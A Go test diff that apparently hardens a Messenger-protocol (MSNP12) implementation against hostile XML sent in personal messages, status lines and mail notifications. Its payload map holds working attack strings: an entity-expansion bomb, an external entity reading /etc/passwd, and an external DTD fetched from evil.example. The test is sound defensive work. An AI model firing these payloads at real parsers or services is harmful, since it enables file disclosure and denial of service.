@@ -100,3 +100,46 @@ func TestJoinedBeforeTheDoor(t *testing.T) {
 		}
 	}
 }
+
+// XML that is meant to do harm, wherever others can put some: entities that grow, entities of files and of other hosts, nests and
+// attributes without end, what is never closed, what is no text. It costs nothing that can be felt, ends nothing, and is not told.
+func TestHostileXML(t *testing.T) {
+	bombs := map[string]string{
+		"growing entities": `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">` +
+			`<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;">]><Data><PSM>&e;</PSM></Data>`,
+		"a file":          `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><Data><PSM>&b;</PSM></Data>`,
+		"another host":    `<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><Data><PSM>x</PSM></Data>`,
+		"a nest":          "<Data>" + strings.Repeat("<PSM>", 9000) + "x",
+		"attributes":      "<Data " + strings.Repeat("a='b' ", 8000) + "><PSM>x",
+		"never closed":    "<Data><PSM>x<![CDATA[" + strings.Repeat("]", 9000),
+		"no text":         "<Data><PSM>\x00\xFF\xFE</PSM><CurrentMedia>\\0Music\\01\\0" + strings.Repeat("{0}", 5000),
+		"unknown entity":  "<Data><PSM>&nbsp;&#0;&#x110000;</PSM></Data>",
+		"an instruction":  `<?xml version="9.9" encoding="UTF-32"?><?php die() ?><Data><PSM`,
+		"another charset": "\xFF\xFE<\x00D\x00a\x00t\x00a\x00>\x00",
+	}
+	with := func(line, payload string) string { return fmt.Sprintf("%s %d\r\n%s", line, len(payload), payload) }
+	for place, say := range map[string]func(string) string{
+		"personal message": func(x string) string { return with("UBX echobot@lab.example", x) },
+		"picture": func(x string) string {
+			return "NLN AWY echobot@lab.example x 0 " + wire.Escape(x[:min(len(x), 1000)]) + "\r\n"
+		},
+		"mail": func(x string) string {
+			return with("MSG Hotmail Hotmail", "Content-Type: text/x-msmsgsoimnotification\r\n\r\nMail-Data: "+x+"\r\n")
+		},
+	} {
+		for name, bomb := range bombs {
+			t.Run(place+", "+name, func(t *testing.T) {
+				online(t, "MSNP12", func(s *story) {
+					s.m.say(say(bomb))
+					for _, words := range s.rest(time.Second) {
+						if strings.Contains(words, "aaaaaaaaaa") || strings.Contains(words, "root:") || len(words) > 2000 {
+							t.Errorf("%.200s", words)
+						}
+					}
+					s.does(`send echobot@lab.example "still there?"`)
+					s.until("done 1 accepted")
+				})
+			})
+		}
+	}
+}
